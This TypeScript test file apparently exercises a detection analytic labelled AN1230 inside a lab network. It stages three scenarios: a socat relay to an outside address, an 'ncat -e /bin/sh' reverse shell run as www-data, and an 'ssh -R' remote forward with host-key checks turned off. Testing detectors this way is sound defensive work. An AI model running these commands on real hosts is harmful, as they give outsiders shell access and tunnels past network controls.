// scenarios of AN1230: a relay, a reverse shell and a remote forward to outside addresses
import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { IPTABLES } from './host-rulesets.ts';
import type { Account, LabHost } from './hosts.ts';
import { type HostScenario, type HostStage, outside } from './hosts-scenario.ts';

/** Outside, at the host's own outside address: takes connections and says what it is told to. */
const listenOutside = ({ network, site }: HostStage, host: LabHost, port: number, say: string) =>
  network.daemons.start(
    `outside-${host.plan.name}`,
    ['sh', '-c', `(sleep 1; echo '${say}'; sleep 60) | ncat -l ${host.outside} ${port}`],
    { netns: site.internet },
  );

export const tunnels: readonly HostScenario[] = [
  {
    title: 'socat relays a port of the host to an outside address',
    ...{ analytic: 'AN1230', atLeast: 'medium', atMost: 'critical' },
    host: { name: 'socat-relay', start: IPTABLES },
    prepare: async (stage, host) => {
      listenOutside(stage, host, 4443, 'hello');
    },
    async act(stage, host) {
      host.start('socat', `exec socat TCP-LISTEN:443,fork,reuseaddr TCP:${host.outside}:4443`);
      await sleep(500);
      const said = await outside(stage, ['ncat', '-w', '3', host.address, '443']);
      assert.match(said, /hello/);
    },
    proof: async (_stage, host) => (await host.daemon('ss -Hltnp sport = :443')).trim().replace(/\s+/g, ' '),
  },
  {
    title: 'ncat -e /bin/sh to an outside address, as www-data',
    ...{ analytic: 'AN1230', atLeast: 'high', atMost: 'critical' },
    host: { name: 'ncat-shell', start: IPTABLES, audit: 'file' },
    prepare: async (stage, host) => {
      listenOutside(stage, host, 4444, 'id');
    },
    async act(stage, host) {
      host.start('ncat', `exec ncat -e /bin/sh ${host.outside} 4444`, 'www-data');
      await sleep(2500);
      assert.match(stage.network.daemons.log(`outside-${host.plan.name}`), /uid=33\(www-data\)/);
    },
    proof: async ({ network }, host) =>
      `the shell said: ${network.daemons.log(`outside-${host.plan.name}`).trim()}`,
  },
  {
    title: 'ssh -R from the host to an outside address',
    ...{ analytic: 'AN1230', atLeast: 'medium', atMost: 'critical' },
    host: { name: 'ssh-remote', start: IPTABLES, syslog: 'tcp' },
    prepare: (stage, host) => giveKey(stage, host, 'www-data'),
    async act(_stage, host) {
      host.start('ssh', `exec ${sshOutside(host, '-R 2222:127.0.0.1:22')}`, 'www-data');
      await sleep(2000);
    },
    async proof(stage) {
      const listeners = await outside(stage, ['ss', '-Hltn', 'sport = :2222']);
      assert.match(listeners, /2222/);
      return `outside: ${listeners.trim().replace(/\s+/g, ' ')}`;
    },
  },
];

/** `which` as ssh reads it, to the sshd outside; `giveKey` comes first. */
export const sshOutside = ({ outside: address }: LabHost, which: string): string =>
  `ssh -F /dev/null -i /run/client.key -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N ${which} root@${address}`;

export async function giveKey({ site }: HostStage, host: LabHost, account: Account): Promise<void> {
  await host.daemon(`install -o ${account} -m 600 '${site.key}' /run/client.key`);
}
